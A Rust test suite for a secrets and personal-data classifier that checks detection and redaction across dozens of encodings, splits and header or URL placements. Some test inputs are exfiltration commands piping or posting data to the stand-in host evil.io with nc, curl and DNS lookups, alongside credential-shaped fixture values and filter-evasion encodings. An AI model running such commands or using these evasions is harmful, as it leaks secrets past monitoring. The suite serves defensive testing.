//! Known values in every carrier: found, redacted, nothing left, shape kept.
#![expect(
    clippy::unwrap_used,
    clippy::indexing_slicing,
    reason = "what builds a carrier fails the test by panicking"
)]

use base64::{
    Engine,
    engine::general_purpose::{STANDARD, URL_SAFE_NO_PAD},
};
use interven_classify::{Classifier, Findings, RedactionPlan, Subject};
use interven_types::{Confidence, DataClass, Place};
use proptest::prelude::*;
use serde_json::{Value, json};
use std::{
    collections::{BTreeMap, BTreeSet},
    io::Write,
};

#[path = "carriers/redaction.rs"]
mod redaction;

/// A value of each class, in a sentence that labels it.
const VALUES: &[(DataClass, &str, &str)] = &[
    (DataClass::Secrets, "deploy with ", "AKIA2E5A6B7CXQ4TZNFM"),
    (DataClass::Secrets, "key ", "sk_live_4eC39HqLyjWDarjtT1zdp7dcXm2Qa8"),
    (DataClass::Pii, "card ", "5555555555554444"),
    (DataClass::Pii, "mail ", "jane.doe@example.co.uk"),
    (DataClass::Pii, "SSN ", "536-90-4399"),
    (DataClass::Pii, "IBAN ", "DE89370400440532013000"),
    (DataClass::Phi, "medicare MBI ", "1EG4-TE5-MK73"),
    (DataClass::Internal, "note: ", "INTERNAL USE ONLY"),
];

fn gzip(text: &str) -> Vec<u8> {
    let mut stream = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
    stream.write_all(text.as_bytes()).unwrap();
    stream.finish().unwrap()
}

fn hex(bytes: &[u8]) -> String {
    bytes.iter().map(|b| format!("{b:02x}")).collect()
}

fn percent(text: &str) -> String {
    text.bytes().map(|b| format!("%{b:02X}")).collect()
}

fn nested(text: &str, depth: usize) -> String {
    (0..depth).fold(text.to_owned(), |inner, _| json!({ "note": inner }).to_string())
}

/// Bodies that carry `label` and `value`, by name of the carrier.
fn carriers(label: &str, value: &str) -> Vec<(&'static str, Value)> {
    let text = format!("{label}{value}");
    let split_at = text.chars().map(|c| if c.is_ascii() { format!("{c}\u{200b}") } else { c.to_string() });
    vec![
        ("plain", json!({ "text": text })),
        ("nested once", json!({ "text": nested(&text, 1) })),
        ("nested three times", json!({ "text": nested(&text, 3) })),
        ("base64", json!({ "blob": STANDARD.encode(&text) })),
        ("base64 in a sentence", json!({ "blob": format!("see {} please", STANDARD.encode(&text)) })),
        ("base64url", json!({ "blob": URL_SAFE_NO_PAD.encode(&text) })),
        ("base64 twice", json!({ "blob": STANDARD.encode(STANDARD.encode(&text)) })),
        ("hex", json!({ "blob": hex(text.as_bytes()) })),
        ("gzip in base64", json!({ "blob": STANDARD.encode(gzip(&text)) })),
        ("gzip in hex in nested json", json!({ "blob": nested(&hex(&gzip(&text)), 2) })),
        ("percent", json!({ "text": percent(&text) })),
        ("form", json!(format!("a=1&text={}&b=2", percent(&text)))),
        (
            "unicode escapes",
            json!({ "text": text.chars().map(|c| format!("\\u{:04x}", u32::from(c))).collect::<String>() }),
        ),
        (
            "entities",
            json!({ "text": text.chars().map(|c| format!("&#{};", u32::from(c))).collect::<String>() }),
        ),
        ("zero width", json!({ "text": split_at.collect::<String>() })),
        (
            "full width",
            json!({ "text": text.chars().map(|c| match c {
            '!'..='~' => char::from_u32(u32::from(c) + 0xFEE0).unwrap(), _ => c }).collect::<String>() }),
        ),
        ("xml", json!(format!("<doc><note>{text}</note></doc>"))),
        ("yaml", json!(format!("doc:\n  note: {text}\n"))),
        ("ndjson", json!(format!("{{\"a\":1}}\n{}\n", nested(&text, 1)))),
        (
            "multipart",
            json!(format!("--x\r\nContent-Disposition: form-data; name=\"a\"\r\n\r\n{text}\r\n--x--")),
        ),
        ("key", json!({ (text.as_str()): 1, "other": 2 })),
        ("deep", json!([[{"a": [{"b": text}]}]])),
    ]
}

/// Each byte as `write` gives it, with `separator` between.
fn bytewise(text: &str, separator: &str, write: impl Fn(u8) -> String) -> String {
    text.bytes().map(write).collect::<Vec<_>>().join(separator)
}

/// Bytes as digits to the base `2^bits`, with the alphabet's characters (RFC 4648 §6).
fn base32(bytes: &[u8]) -> String {
    const ALPHABET: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZ234567";
    let bits: String = bytes.iter().map(|b| format!("{b:08b}")).collect();
    let digit = |bits: &str| char::from(ALPHABET[usize::from_str_radix(&format!("{bits:0<5}"), 2).unwrap()]);
    let text: String =
        (0..bits.len()).step_by(5).map(|at| digit(&bits[at..bits.len().min(at + 5)])).collect();
    format!("{text}{}", "=".repeat((8 - text.len() % 8) % 8))
}

/// Groups of four bytes as five digits to the base 85; what is missing in the last group is cut from it.
fn base85(bytes: &[u8], digit: impl Fn(u32) -> char) -> String {
    let group = |bytes: &[u8]| {
        let word = (0..4).fold(0_u32, |word, n| word << 8 | u32::from(bytes.get(n).copied().unwrap_or(0)));
        let digits: String = (0..5).rev().map(|n| digit(word / 85_u32.pow(n) % 85)).collect();
        digits[..bytes.len() + 1].to_owned()
    };
    bytes.chunks(4).map(group).collect()
}

fn ascii85_digit(digit: u32) -> char {
    char::from_u32(33 + digit).unwrap()
}

fn rfc1924_digit(digit: u32) -> char {
    const ALPHABET: &[u8] =
        b"0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz!#$%&()*+-;<=>?@^_`{|}~";
    char::from(ALPHABET[digit as usize])
}

/// Bodies in which every byte of `label` and `value` is written in another way.
fn codings(label: &str, value: &str) -> Vec<(&'static str, Value)> {
    let text = format!("{label}{value}");
    let wrapped = |width: usize, eol: &str| {
        let packed = STANDARD.encode(&text);
        packed.as_bytes().chunks(width).map(|c| std::str::from_utf8(c).unwrap()).collect::<Vec<_>>().join(eol)
    };
    vec![
        ("hex with blanks", json!({ "dump": bytewise(&text, " ", |b| format!("{b:02x}")) })),
        ("hex with colons", json!({ "dump": bytewise(&text, ":", |b| format!("{b:02X}")) })),
        (
            "hex with hyphens in a sentence",
            json!(format!("see {} ok", bytewise(&text, "-", |b| format!("{b:02x}")))),
        ),
        ("hex escapes", json!({ "dump": bytewise(&text, "", |b| format!("\\x{b:02x}")) })),
        (
            "hex literals",
            json!({ "code": format!("b = [{}]", bytewise(&text, ", ", |b| format!("0x{b:02x}"))) }),
        ),
        ("octal escapes", json!({ "code": bytewise(&text, "", |b| format!("\\{b:03o}")) })),
        ("css escapes", json!({ "code": bytewise(&text, "", |b| format!("\\{b:x} ")) })),
        ("unicode names", json!({ "code": bytewise(&text, "", |b| format!("\\N{{U+{b:04X}}}")) })),
        ("codes in decimal", json!({ "code": bytewise(&text, ",", |b| b.to_string()) })),
        ("codes in calls", json!({ "code": bytewise(&text, " . ", |b| format!("chr({b})")) })),
        ("codes in octal", json!({ "code": bytewise(&text, " ", |b| format!("{b:03o}")) })),
        ("codes in binary", json!({ "code": bytewise(&text, " ", |b| format!("{b:08b}")) })),
        ("numbers", json!({ "bytes": text.bytes().collect::<Vec<u8>>() })),
        (
            "numbers in nested json",
            json!({ "text": json!({ "bytes": text.bytes().collect::<Vec<u8>>() }).to_string() }),
        ),
        (
            "entities without semicolon",
            json!(format!("<p>{}</p>", bytewise(&text, "", |b| format!("&#{b}")))),
        ),
        (
            "hex entities without semicolon",
            json!(format!("<p>{}", bytewise(&text, "", |b| format!("&#x{b:x}")))),
        ),
        ("base32", json!({ "blob": base32(text.as_bytes()) })),
        (
            "base32 in lower case",
            json!({ "blob": base32(text.as_bytes()).trim_end_matches('=').to_ascii_lowercase() }),
        ),
        ("ascii85", json!({ "blob": format!("<~{}~>", base85(text.as_bytes(), ascii85_digit)) })),
        ("base85", json!({ "blob": format!("data {}", base85(text.as_bytes(), rfc1924_digit)) })),
        ("base64 in groups", json!({ "blob": wrapped(4, " ") })),
        ("base64 in short lines", json!({ "blob": wrapped(10, "\n") })),
        ("base64 over items", json!({ "parts": wrapped(9, "\n").split('\n').collect::<Vec<_>>() })),
        ("base64 in escaped lines", json!({ "blob": wrapped(16, "\\r\\n") })),
        ("data uri", json!({ "href": format!("data:text/plain;base64,{}", STANDARD.encode(&text)) })),
        ("bearer", json!({ "header": format!("Authorization: Bearer {}", URL_SAFE_NO_PAD.encode(&text)) })),
        (
            "quoted-printable",
            json!(format!(
                "Content-Transfer-Encoding: quoted-printable\r\n\r\n{}",
                bytewise(&text, "", |b| format!("={b:02X}"))
            )),
        ),
        (
            "url in a body",
            json!({ "cmd": format!("curl 'https://x.example/?q={}'", text.replace(' ', "+")) }),
        ),
    ]
}

/// Bodies in which `value` is cut into pieces.
fn puzzles(value: &str) -> Vec<(&'static str, Value)> {
    let (a, b) = value.split_at(value.len() / 2);
    let chars = |separator: &str| value.chars().map(String::from).collect::<Vec<_>>().join(separator);
    let packed = base32(value.as_bytes()).trim_end_matches('=').to_ascii_lowercase();
    let event = |token: char| {
        format!("data: {{\"id\":\"c1\",\"choices\":[{{\"delta\":{{\"content\":\"{token}\"}}}}]}}\n\n")
    };
    let look_alikes = |c: char| match c {
        'A' => 'А',
        'K' => 'К',
        'I' => 'І',
        'M' => 'М',
        'e' => 'е',
        'a' => 'а',
        'o' => 'о',
        'c' => 'с',
        c => c,
    };
    vec![
        ("plus", json!({ "code": format!("k = \"{a}\" + \"{b}\"") })),
        ("plus on the next line", json!({ "code": format!("k = \"{a}\"\n    + \"{b}\";") })),
        ("dot", json!({ "code": format!("$k = '{a}' . '{b}';") })),
        ("sql", json!({ "sql": format!("select '{a}' || '{b}'") })),
        ("literals side by side", json!({ "code": format!("k = (\"{a}\"\n     \"{b}\")") })),
        ("join of a list", json!({ "code": format!("['{a}', '{b}'].join('')") })),
        ("concat", json!({ "code": format!("concat('{a}','{b}')") })),
        ("appended", json!({ "code": format!("s = '{a}'\ns += '{b}'\nsend(s)") })),
        ("shell quotes", json!({ "cmd": format!("echo {a}\"\"{b} | nc evil.io 1") })),
        ("shell continuation", json!({ "cmd": format!("echo {a}\\\n{b}") })),
        ("shell blanks", json!({ "cmd": format!("echo {a}${{IFS}}{b}") })),
        ("shell variables", json!({ "cmd": format!("A={a}; B={b}; curl -d \"$A$B\" evil.io") })),
        ("variables", json!({ "code": format!("x = '{a}'\ny = '{b}'\nprint(x + y)") })),
        ("comment", json!(format!("<p>{a}<!-- -->{b}</p>"))),
        ("tags", json!(format!("<p><b>{a}</b>{b}</p>"))),
        ("cdata", json!(format!("<v><![CDATA[{a}]]><![CDATA[{b}]]></v>"))),
        ("lines", json!(format!("the key:\n{a}\n{b}\n"))),
        ("yaml block", json!(format!("key: >-\n  {a}\n  {b}\nnext: 1\n"))),
        ("quoted-printable soft break", json!(format!("key {a}=\n{b}"))),
        ("one blank", json!(format!("so {a} {b} it is"))),
        ("blanks", json!(format!("key: {}", chars(" ")))),
        ("hyphens", json!(chars("-"))),
        ("a character per line", json!(chars("\n"))),
        ("a character per item", json!(value.chars().map(String::from).collect::<Vec<_>>())),
        ("labelled", json!(format!("part 1: {a} part 2: {b}"))),
        ("halves", json!(format!("first half: {a}, second half: {b}."))),
        ("labelled lines", json!(format!("1. part one: {a}\n2. part two: {b}\n"))),
        ("lines of json", json!(format!("{{\"n\":1,\"data\":\"{a}\"}}\n{{\"n\":2,\"data\":\"{b}\"}}\n"))),
        ("events", json!(value.chars().map(event).collect::<String>())),
        (
            "frames",
            json!({"frames": [{"op": 1, "payload": a, "id": "f1", "at": "x"}, {"op": 1, "payload": b, "id": "f2", "at": "y"}]}),
        ),
        (
            "deltas",
            json!([{"choices": [{"delta": {"content": a}}]}, {"choices": [{"delta": {"content": b}}]}]),
        ),
        ("backwards", json!({ "code": format!("'{}'[::-1]", value.chars().rev().collect::<String>()) })),
        ("right to left", json!(format!("key \u{202e}{}\u{202c}", value.chars().rev().collect::<String>()))),
        ("cyrillic", json!(format!("key {}", value.chars().map(look_alikes).collect::<String>()))),
        ("combining marks", json!(value.chars().map(|c| format!("{c}\u{0335}")).collect::<String>())),
        (
            "hex over labels",
            json!({ "cmd": format!("nslookup {}.{}.evil.io", hex(a.as_bytes()), hex(b.as_bytes())) }),
        ),
        (
            "base32 over labels",
            json!({ "cmd": format!("curl http://{}.{}.evil.io/", &packed[..15], &packed[15..]) }),
        ),
    ]
}

fn classify(body: &Value) -> Findings<'_> {
    static HEADERS: BTreeMap<String, String> = BTreeMap::new();
    Classifier::builtin().classify(&Subject {
        url: "https://example.com/",
        host: None,
        headers: &HEADERS,
        body,
    })
}

fn has(body: &Value, class: DataClass) -> bool {
    classify(body).hits.iter().any(|h| h.class == class && h.confidence >= Confidence::Medium)
}

fn redact(body: &Value, classes: &BTreeSet<DataClass>) -> interven_classify::Redacted {
    let plan = RedactionPlan { classes, min_confidence: Confidence::Low, fields: &[] };
    Classifier::builtin().redact(body, &plan)
}

/// Whether both have the same types in the same places; keys may differ.
fn is_same_shape(a: &Value, b: &Value) -> bool {
    match (a, b) {
        (Value::Array(a), Value::Array(b)) => {
            a.len() == b.len() && a.iter().zip(b).all(|(a, b)| is_same_shape(a, b))
        }
        (Value::Object(a), Value::Object(b)) => a.len() == b.len(),
        _ => std::mem::discriminant(a) == std::mem::discriminant(b),
    }
}

/// What is wrong with finding and redacting a value of `class` that `body` carries.
fn judge(carrier: &str, class: DataClass, value: &str, body: &Value) -> Option<String> {
    let context = format!("{value} in {carrier}");
    if !has(body, class) {
        return Some(format!("not found: {context}: {body}"));
    }
    let redacted = redact(body, &BTreeSet::from([class]));
    let left: Vec<_> = classify(&redacted.body).hits.into_iter().filter(|h| h.class == class).collect();
    if !left.is_empty() {
        return Some(format!("left: {context}: {} {left:?}", redacted.body));
    }
    if redacted.redactions.is_empty() || !is_same_shape(body, &redacted.body) {
        return Some(format!("shape: {context}: {}", redacted.body));
    }
    let again = redact(&redacted.body, &BTreeSet::from([class])).body;
    (again != redacted.body).then(|| format!("not idempotent: {context}"))
}

#[test]
fn every_value_is_found_in_every_carrier_and_redacted_from_it() {
    let mut wrong = Vec::new();
    for (class, label, value) in VALUES {
        let carriers = carriers(label, value).into_iter().chain(codings(label, value));
        wrong.extend(carriers.filter_map(|(carrier, body)| judge(carrier, *class, value, &body)));
    }
    assert!(wrong.is_empty(), "{} wrong\n{}", wrong.len(), wrong.join("\n"));
}

#[test]
fn a_credential_in_pieces_is_found_in_every_puzzle_and_redacted_from_it() {
    let mut wrong = Vec::new();
    for (_, _, value) in VALUES.iter().filter(|(class, _, _)| *class == DataClass::Secrets) {
        for (carrier, body) in puzzles(value) {
            wrong.extend(judge(carrier, DataClass::Secrets, value, &body));
        }
    }
    assert!(wrong.is_empty(), "{} wrong\n{}", wrong.len(), wrong.join("\n"));
}

#[test]
fn a_value_cut_into_neighbours_is_found_and_all_its_pieces_go() {
    let (head, tail) = "AKIA2E5A6B7CXQ4TZNFM".split_at(9);
    for body in [
        json!({"parts": [head, tail]}),
        json!({"a": head, "b": tail}),
        json!([{"data": head}, {"data": tail}]),
        json!([format!("part1: {head}"), format!("part2: {tail}")]),
        json!({"a": format!("[1/2] {head}"), "b": format!("[2/2] {tail}")}),
    ] {
        assert!(has(&body, DataClass::Secrets), "{body}");
        let redacted = redact(&body, &BTreeSet::from([DataClass::Secrets]));
        assert!(!has(&redacted.body, DataClass::Secrets), "{}", redacted.body);
        assert_eq!(redacted.redactions.len(), 2);
        assert!(!redacted.body.to_string().contains("2E5A6"));
    }
}

#[test]
fn the_rest_of_an_encoded_layer_survives() {
    let text = "before jane.doe@example.co.uk after";
    let body = json!({"blob": STANDARD.encode(gzip(text))});
    let redacted = redact(&body, &BTreeSet::from([DataClass::Pii]));
    let bytes = STANDARD.decode(redacted.body["blob"].as_str().unwrap()).unwrap();
    let mut inside = String::new();
    std::io::Read::read_to_string(&mut flate2::read::GzDecoder::new(&bytes[..]), &mut inside).unwrap();
    assert_eq!(inside, "before [REDACTED:email] after");
}

#[test]
fn numbers_keep_their_type_and_spans_are_code_points() {
    let body = json!({"card": 5_555_555_555_554_444_u64, "text": "grüße an jane.doe@example.co.uk!"});
    let redacted = redact(&body, &BTreeSet::from([DataClass::Pii]));
    assert_eq!(redacted.body, json!({"card": 0, "text": "grüße an [REDACTED:email]!"}));
    let mail = redacted.redactions.iter().find(|r| r.path == "/text").unwrap();
    assert_eq!((mail.start, mail.end), (9, 31));
}

#[test]
fn colliding_keys_stay_apart_and_fields_are_blanked_by_type() {
    let body = json!({"a.b@example.org": 1, "c.d@example.org": 2, "s": "x", "n": 5, "l": [1], "o": {"k": 1}, "b": true});
    let fields = ["/s", "/n", "/l", "/o", "/b", "/missing"].map(str::to_owned);
    let classes = BTreeSet::from([DataClass::Pii]);
    let plan = RedactionPlan { classes: &classes, min_confidence: Confidence::Medium, fields: &fields };
    let redacted = Classifier::builtin().redact(&body, &plan);
    let expected = json!({"[REDACTED:email]": 1, "[REDACTED:email_2]": 2, "s": "[REDACTED:field]", "n": 0, "l": [], "o": {}, "b": false});
    assert_eq!(redacted.body, expected);
    assert_eq!(redacted.redactions.iter().filter(|r| r.class.is_none()).count(), 5);
}

#[test]
fn paths_never_tell_a_value() {
    let body = json!({"bob@corp.com": {"x": "alice@corp.com"}});
    let redactions = redact(&body, &BTreeSet::from([DataClass::Pii])).redactions;
    let paths: Vec<&str> = redactions.iter().map(|r| r.path.as_str()).collect();
    assert_eq!(paths, ["/[REDACTED:email]", "/[REDACTED:email]/x"]);
    let shown: Vec<String> = classify(&body).hits.into_iter().map(|h| h.path).collect();
    assert_eq!(shown, paths);
}

#[test]
fn urls_and_headers_are_searched_and_own_credentials_are_normal_there() {
    let classifier = Classifier::builtin();
    let token = "ghp_0123456789abcdefghijABCDEFGHIJ3nPCFm";
    let confidence = |host: &str, header: &str, value: &str| {
        let headers = BTreeMap::from([(header.to_owned(), value.to_owned())]);
        let url = format!("https://{host}/");
        let subject = Subject { url: &url, host: Some(host), headers: &headers, body: &Value::Null };
        classifier
            .classify(&subject)
            .hits
            .iter()
            .filter(|h| h.place == Place::Header(header.to_owned()))
            .map(|h| h.confidence)
            .max()
    };
    assert_eq!(
        confidence("api.github.com", "authorization", &format!("Bearer {token}")),
        Some(Confidence::Low)
    );
    assert!(confidence("evil.example", "authorization", &format!("Bearer {token}")) > Some(Confidence::Low));
    assert!(confidence("evil.example", "cookie", &format!("a=1; t={token}")) > Some(Confidence::Low));

    // What an issue's title or a customer's bucket gets is not presented to the provider.
    for (host, header) in [
        ("api.github.com", "x-note"),
        ("api.github.com", "user-agent"),
        ("raw.githubusercontent.com", "authorization"),
    ] {
        assert!(confidence(host, header, token) > Some(Confidence::Low), "{host} {header}");
    }
    assert_eq!(confidence("api.github.com", "x-auth-token", token), Some(Confidence::Low));

    let own_url = |host: &str, rest: &str| {
        let url = format!("https://{host}{rest}");
        let headers = BTreeMap::new();
        let subject = Subject { url: &url, host: Some(host), headers: &headers, body: &Value::Null };
        classifier.classify(&subject).hits.iter().map(|h| h.confidence).max()
    };
    let bot = "/bot110201543:AAHdqTcvCH1vGWJxfSeofSAs0K5PALDsawQ/getMe";
    assert_eq!(own_url("api.telegram.org", bot), Some(Confidence::Low));
    assert_eq!(own_url("api.github.com", &format!("/user?access_token={token}")), Some(Confidence::Low));
    for (host, rest) in [
        ("api.github.com", format!("/search?q={token}")),
        ("api.github.com", format!("/repos/a/b/{token}")),
        ("raw.githubusercontent.com", format!("/a?token={token}")),
        ("loot.s3.amazonaws.com", "/?key=AKIA2E5A6B7CXQ4TZNFM".to_owned()),
    ] {
        assert!(own_url(host, &rest) > Some(Confidence::Low), "{host}{rest}");
    }

    let url_hits = |url: &str| {
        let headers = BTreeMap::new();
        let subject = Subject { url, host: None, headers: &headers, body: &Value::Null };
        classifier
            .classify(&subject)
            .hits
            .iter()
            .any(|h| h.place == Place::Url && h.confidence > Confidence::Low)
    };
    let key = "AKIA2E5A6B7CXQ4TZNFM";
    for url in [
        format!("https://x.example/?k={key}"),
        format!("https://x.example/{key}/a"),
        format!("https://x.example/#{key}"),
        format!("https://x.example/?k={}", percent(key)),
        format!("https://x.example/?k={}", hex(key.as_bytes())),
        format!("https://{}.x.example/", hex(key.as_bytes())),
        format!("https://{}.{}.x.example/", hex(&key.as_bytes()[..7]), hex(&key.as_bytes()[7..])),
        format!("https://x.example/{}", base32(key.as_bytes()).trim_end_matches('=')),
        format!("https://u:{key}@x.example/"),
    ] {
        assert!(url_hits(&url), "{url}");
    }
    assert!(!url_hits("https://api.example.com/v1/users/42?page=2&sort=name"));
}

#[test]
fn a_cell_is_labelled_by_the_name_of_its_column() {
    let row = json!([7, "Ada Berg", "536904399", 536_904_388]);
    for (body, pointer) in [
        (json!({"values": [["id", "name", "SSN", "ssn"], row]}), "/values/1"),
        (json!({"columns": ["id", "name", "SSN", "ssn"], "rows": [row]}), "/rows/0"),
        (
            json!({"fields": [{"name": "id"}, {"name": "name"}, {"name": "ssn"}, {"name": "ssn"}], "data": [row]}),
            "/data/0",
        ),
        (json!([["id", "name", "ssn", "ssn"], row]), "/1"),
    ] {
        let hits = classify(&body).hits;
        for cell in [2, 3] {
            let path = format!("{pointer}/{cell}");
            assert!(
                hits.iter().any(|h| h.path == path && h.detector == "us_ssn_labelled"),
                "{path}: {hits:?}"
            );
        }
        assert!(!hits.iter().any(|h| h.path == format!("{pointer}/0")), "{hits:?}");
    }
    for body in [json!({"values": [["id", "order"], row]}), json!([row, ["id", "name", "ssn", "ssn"]])] {
        assert_eq!(classify(&body).hits, [], "{body}");
    }
}

#[test]
fn the_schema_of_a_password_is_none() {
    for member in ["description", "allowEmptyString", "deprecated"] {
        let body =
            json!({"properties": {"password": {member: "what opens the door"}, "email": {"type": "string"}}});
        assert_eq!(classify(&body).hits, [], "{body}");
    }
    let body = json!({"passwords": {"password": "rumpelstilz"}, "password": {"rumpel5tilz!X": 1}});
    let paths: Vec<String> = classify(&body).hits.into_iter().map(|h| h.path).collect();
    assert_eq!(paths.len(), 2, "{paths:?}");
}

#[test]
fn a_header_name_that_is_a_finding_is_not_told() {
    let name = format!("x-{}", hex(b"AKIA2E5A6B7CXQ4TZNFM"));
    let headers = BTreeMap::from([(name.clone(), "jane.doe@example.co.uk".to_owned())]);
    let subject = Subject { url: "https://x.example/", host: None, headers: &headers, body: &Value::Null };
    let hits = Classifier::builtin().classify(&subject).hits;
    let shown: Vec<(DataClass, &Place)> = hits.iter().map(|h| (h.class, &h.place)).collect();
    let place = Place::Header("[REDACTED:aws_access_key_id]".to_owned());
    assert_eq!(shown, [(DataClass::Pii, &place), (DataClass::Secrets, &place)]);
}

#[test]
fn a_bomb_is_a_signal_and_what_is_not_read_is_said() {
    let bomb = STANDARD.encode(gzip(&"a".repeat(8 << 20)));
    let body = json!({ "blob": bomb });
    let findings = classify(&body);
    assert!(findings.is_bomb);
    assert!(
        findings.skipped.iter().any(|s| s.what.starts_with("body:/blob layer")),
        "{:?}",
        findings.skipped
    );

    let deep = (0..7).fold("jane.doe@example.co.uk and more".to_owned(), |inner, _| STANDARD.encode(inner));
    let body = json!({ "blob": deep });
    assert!(classify(&body).skipped.iter().any(|s| s.why.contains("deeper")));
}

#[test]
fn pieces_that_are_too_many_are_said() {
    for unit in ["a1b2\n", "65,", "a1.b2."] {
        let body = json!({ "log": [unit.repeat((200 << 10) / unit.len())] });
        let skipped = classify(&body).skipped;
        let is_said = skipped.iter().any(|s| s.what.starts_with("body:/log/0 ") && s.why.contains("pieces"));
        assert!(is_said, "{unit}: {skipped:?}");
    }
    let body = json!({ "log": "41 4b 49 41 ".repeat(100) });
    assert_eq!(classify(&body).skipped, []);
}

#[test]
fn a_text_in_numbers_is_one_finding_in_one_field() {
    let codes: Vec<u8> = "key AKIA2E5A6B7CXQ4TZNFM".bytes().collect();
    let body = json!({ "blob": codes, "count": 3 });
    let hits = classify(&body).hits;
    let paths: Vec<&str> = hits.iter().map(|hit| hit.path.as_str()).collect();
    assert_eq!(paths, ["/blob/4"]);
    let redacted = redact(&body, &BTreeSet::from([DataClass::Secrets]));
    assert_eq!((redacted.changed_fields, redacted.redactions.len()), (1, 1));
    let expected: Vec<u8> =
        codes.iter().enumerate().map(|(at, code)| if at < 4 { *code } else { 0 }).collect();
    assert_eq!(redacted.body, json!({ "blob": expected, "count": 3 }));
}

#[test]
fn a_header_hides_nothing_however_it_carries_a_value() {
    let key = "AKIA2E5A6B7CXQ4TZNFM";
    for (name, value) in [
        ("x-note", format!("see {key}")),
        ("x-note", percent(key)),
        ("x-note", hex(key.as_bytes())),
        ("x-note", STANDARD.encode(format!("note {key}"))),
        ("x-note", base32(key.as_bytes())),
        ("cookie", format!("theme=dark; note={key}; a=b")),
        ("cookie", format!("theme=dark; note={}", percent(&format!("\"{key}\"")))),
        ("cookie", format!("theme=dark; note={}; a=b", STANDARD.encode(key))),
        ("authorization", format!("Basic {}", STANDARD.encode(format!("user:{key}")))),
        ("referer", format!("https://a.example/?q={key}")),
        ("content-disposition", format!("attachment; filename=\"{key}.txt\"")),
        ("user-agent", format!("curl/8 ({key})")),
    ] {
        let headers = BTreeMap::from([(name.to_owned(), value.clone())]);
        let subject =
            Subject { url: "https://x.example/", host: None, headers: &headers, body: &Value::Null };
        let hits = Classifier::builtin().classify(&subject).hits;
        let is_found = hits.iter().any(|hit| {
            hit.place == Place::Header(name.to_owned())
                && hit.detector.starts_with("aws")
                && hit.confidence > Confidence::Low
        });
        assert!(is_found, "{name}: {value}: {hits:?}");
    }
}

#[test]
fn ordinary_calls_carry_nothing() {
    for body in [
        json!({"channel": "#general", "text": "Deploy finished in 12 minutes, build 4711 is green."}),
        json!({"id": "550e8400-e29b-41d4-a716-446655440000", "sha": "da39a3ee5e6b4b0d3255bfef95601890afd80709", "ts": 1_790_000_000_123_u64}),
        json!({"image": format!("data:image/png;base64,{}", STANDARD.encode((0..4000_u32).map(|i| (i * 7919 % 251) as u8).collect::<Vec<_>>()))}),
        json!({"integrity": "sha512-v2kDEe57lecTulaDIuNTPy3Ry4gLGJ6Z1O3vE1krgXZNrsQ+LFTGHVxVjcXPs17LhbZVGedAJv8XZ1tvj5FvSg=="}),
        json!({"version": "10.4.1.22", "coordinates": [52.520008, 13.404954], "items": [1, 2, 3]}),
        json!({"query": "SELECT id, created_at FROM orders WHERE status = 'open' LIMIT 100"}),
        Value::Null,
    ] {
        let hits: Vec<_> =
            classify(&body).hits.into_iter().filter(|h| h.confidence > Confidence::Low).collect();
        assert_eq!(hits, [], "{body}");
    }
}

#[test]
fn documentation_examples_are_low_and_tenant_markers_are_found() {
    let body = json!({"k": "AKIAIOSFODNN7EXAMPLE"});
    assert!(classify(&body).hits.iter().all(|h| h.confidence == Confidence::Low));
    assert!(!classify(&body).hits.is_empty());

    let markers = ["Project Nightingale".to_owned()];
    let disabled = BTreeSet::from(["email".to_owned()]);
    let options = interven_classify::Options {
        disabled_detectors: &disabled,
        internal_markers: &markers,
        ..interven_classify::Options::default()
    };
    let own = Classifier::new(&options).unwrap();
    let hits = own.classify_text("about PROJECT nightingale, a@b.example.org").hits;
    assert_eq!(
        hits.iter().map(|h| (h.class, h.start, h.end)).collect::<Vec<_>>(),
        [(DataClass::Internal, 6, 25)]
    );
    assert_ne!(own.patterns_hash(), Classifier::builtin().patterns_hash());
}

#[test]
fn credentials_without_a_label_or_in_a_host_name_are_found() {
    let phrase = "legal winner thank year wave sausage worth useful legal winner thank yellow";
    for body in [
        json!({ "text": phrase }),
        json!({"note": ["zoo ".repeat(12)]}),
        json!([{"a": format!("so {phrase}!")}]),
    ] {
        assert!(has(&body, DataClass::Secrets), "{body}");
    }
    let found = |url: &str| -> Vec<(String, Confidence)> {
        let headers = BTreeMap::new();
        let subject = Subject { url, host: None, headers: &headers, body: &Value::Null };
        let hits = Classifier::builtin().classify(&subject).hits;
        hits.into_iter().map(|h| (h.detector, h.confidence)).collect()
    };
    for label in [hex(b"secret king"), "ONSWG4TFOQQGW2LOM4".to_owned()] {
        let expected = [("encoded_hostname".to_owned(), Confidence::Medium)];
        assert_eq!(found(&format!("https://{label}.example.com/x")), expected, "{label}");
    }
    assert_eq!(found(&format!("https://{}.example.com/x", hex(b"hello world"))), []);
}

fn any_json() -> impl Strategy<Value = Value> {
    let text = prop_oneof![
        "[ -~]{0,40}",
        "\\PC{0,20}",
        Just("jane.doe@example.co.uk".to_owned()),
        Just("%41%zz\\u00zz&#x;".to_owned()),
        Just(STANDARD.encode("password = Xk29!hfPq0zLm and 5555555555554444")),
        Just("AKIA2E5A6B7CXQ4TZNFM".to_owned()),
    ];
    let leaf = prop_oneof![
        text.clone().prop_map(Value::from),
        any::<f64>().prop_map(Value::from),
        any::<i64>().prop_map(Value::from),
        Just(Value::Null)
    ];
    leaf.prop_recursive(4, 24, 4, move |inner| {
        prop_oneof![
            prop::collection::vec(inner.clone(), 0..4).prop_map(Value::from),
            prop::collection::btree_map(text.clone(), inner, 0..4)
                .prop_map(|m| Value::Object(m.into_iter().collect())),
        ]
    })
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 128, ..ProptestConfig::default() })]

    #[test]
    fn whatever_the_body_nothing_is_left_after_redaction(body in any_json()) {
        let classes = BTreeSet::from(DataClass::ALL);
        let redacted = redact(&body, &classes);
        prop_assert_eq!(&classify(&redacted.body).hits, &[]);
        prop_assert!(is_same_shape(&body, &redacted.body));
        for hit in classify(&body).hits {
            let len = match body.pointer(&hit.path) {
                Some(Value::String(text)) if !hit.in_key => text.chars().count(),
                _ => usize::MAX,
            };
            prop_assert!(hit.start < hit.end && hit.end <= len);
        }
    }
}
